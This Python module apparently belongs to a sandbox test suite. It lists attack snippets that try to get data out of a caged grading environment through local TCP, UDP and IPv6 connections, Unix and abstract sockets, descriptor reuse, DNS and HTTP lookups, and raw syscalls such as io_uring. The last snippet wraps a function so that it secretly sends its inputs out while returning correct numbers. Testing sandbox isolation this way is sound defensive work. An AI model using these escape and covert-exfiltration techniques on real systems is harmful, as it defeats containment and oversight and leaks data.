"""Out of the cage by a wire. On this side real servers listen; `Graded.heard` is what they heard."""

from __future__ import annotations

from attacks.attack import Attack

NO_WIRE = "nothing can be reached from the cage"

ATTACKS = (
    Attack(
        "a server on this machine, by TCP",
        NO_WIRE,
        last='attempt("TCP", lambda: socket.create_connection(("127.0.0.1", $tcp), 1).send(MARK.encode()))',
    ),
    Attack(
        "a server on this machine, by UDP",
        NO_WIRE,
        last="""
        def send(): return socket.socket(type=socket.SOCK_DGRAM).sendto(MARK.encode(), ("127.0.0.1", $udp))
        attempt("UDP", send)
        """,
    ),
    Attack(
        "a server on this machine, by IPv6",
        NO_WIRE,
        last='attempt("IPv6", lambda: socket.create_connection(("::1", $tcp), 1).send(MARK.encode()))',
    ),
    Attack(
        "a socket with a path",
        NO_WIRE,
        last="""
        def send():
            with socket.socket(socket.AF_UNIX) as mine:
                mine.connect("$unix")
                return mine.send(MARK.encode())
        attempt("a path", send)
        """,
    ),
    Attack(
        "a socket with an abstract name",
        NO_WIRE,
        last="""
        def send():
            with socket.socket(socket.AF_UNIX) as mine:
                mine.connect("\\0$abstract")
                return mine.send(MARK.encode())
        attempt("an abstract name", send)
        """,
    ),
    Attack(
        "letters to strangers from half of a pair",
        "a pair of sockets, which event loops need, is no way out",
        last="""
        def send(kind, address):
            mine, _ = socket.socketpair(socket.AF_UNIX, kind)
            if kind == socket.SOCK_DGRAM:
                return mine.sendto(MARK.encode(), address)
            mine.connect(address)
            return mine.send(MARK.encode())
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            for address in ("$unix", "$letters", "\\0$abstract", "\\0$abstract.letters"):
                attempt(f"{kind!r} to {address}", lambda: send(kind, address))
        """,
    ),
    Attack(
        "letters from the line itself",
        "the line to the grader leads to the grader only",
        last="""
        mine = socket.socket(fileno=os.dup(line()))
        for address in ("$unix", "$letters", "\\0$abstract", "\\0$abstract.letters"):
            attempt(f"connect {address}", lambda: mine.connect(address))
            attempt(f"send to {address}", lambda: mine.sendto(MARK.encode(), address))
        """,
    ),
    Attack(
        "every other family of sockets",
        NO_WIRE,
        last="""
        for family in range(1, 46):
            for kind in (1, 2, 3, 5):
                attempt(f"family {family} kind {kind}", lambda: socket.socket(family, kind, 0))
        """,
    ),
    Attack(
        "a name to look up",
        NO_WIRE,
        last="""
        import urllib.request
        attempt("a name", lambda: socket.getaddrinfo("example.org", 80))
        attempt("a page", lambda: urllib.request.urlopen("http://127.0.0.1:$tcp/", timeout=1))
        """,
    ),
    Attack(
        "an event loop that connects",
        NO_WIRE,
        last="""
        import asyncio
        def connect():
            loop = asyncio.new_event_loop()
            loop.run_until_complete(asyncio.wait_for(asyncio.open_connection("127.0.0.1", $tcp), 1))
        worker = threading.Thread(target=lambda: attempt("a loop", connect))
        worker.start(); worker.join()
        """,
    ),
    Attack(
        "a ring of the kernel that opens sockets by itself",
        NO_WIRE,
        last="""
        attempt("io_uring", lambda: system_call("syscall", 425, 8, bytes(120)))
        attempt("socket by number", lambda: system_call("syscall", 41, 2, 1, 0))
        attempt("somebody else's descriptor", lambda: system_call("syscall", 438, 3, 0, 0))
        """,
    ),
    Attack(
        "from inside a call, when nobody prints",
        NO_WIRE,
        last="""
        inner = one_hot
        def one_hot(tokens, V):
            with contextlib.suppress(OSError):
                with socket.create_connection(("127.0.0.1", $tcp), 1) as mine:
                    mine.send(repr(tokens).encode())
                return None
            with contextlib.suppress(OSError):
                left, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
                left.sendto(repr(tokens).encode(), "$letters")
                return None
            return inner(tokens, V)
        """,
        shows="the numbers are right",
    ),
)
